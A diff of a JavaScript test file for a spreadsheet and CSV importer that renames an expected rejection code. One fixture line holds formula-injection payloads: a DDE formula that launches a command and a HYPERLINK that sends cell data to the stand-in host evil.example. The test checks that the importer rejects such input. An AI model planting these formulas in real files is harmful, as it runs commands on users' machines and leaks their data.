@@ -116,7 +116,7 @@ describe('tables that are something else', () => {
     ['days of nobody knows what', 'Date,Views\n2026-10-01,55\n2026-10-02,56\n', 'unknown-table'],
     ['headers named __proto__', '__proto__,constructor,toString\n1,2,3\n', 'unknown-table'],
     ['formulas', '=cmd|\' /C calc\'!A0,=1+1\n=HYPERLINK("https://evil.example/?"&A1),@SUM(A1)\n', 'unknown-table'],
-    ['one word', 'hei', 'unknown-table'],
+    ['one word', 'hei', 'nothing-to-map'],
     ['JSON', '[{"id": 1}]', 'not-a-table'],
     ['blank lines', '\n\n\n  \n', 'empty'],
     ['a backup of our own', '{"app":"medspill","format":1}', 'backup-file'],
@@ -269,7 +269,7 @@ describe('workbooks', () => {
     const code = await refusedQuickly(
       bytesFile('a.xlsx', zipSync({ ...entries, 'xl/worksheets/sheet1.xml': strToU8(sheet) })),
     );
-    expect(['too-wide', 'too-many-rows', 'unknown-table']).toContain(code);
+    expect(['too-wide', 'too-many-rows', 'nothing-to-map']).toContain(code);
   });
 });
 
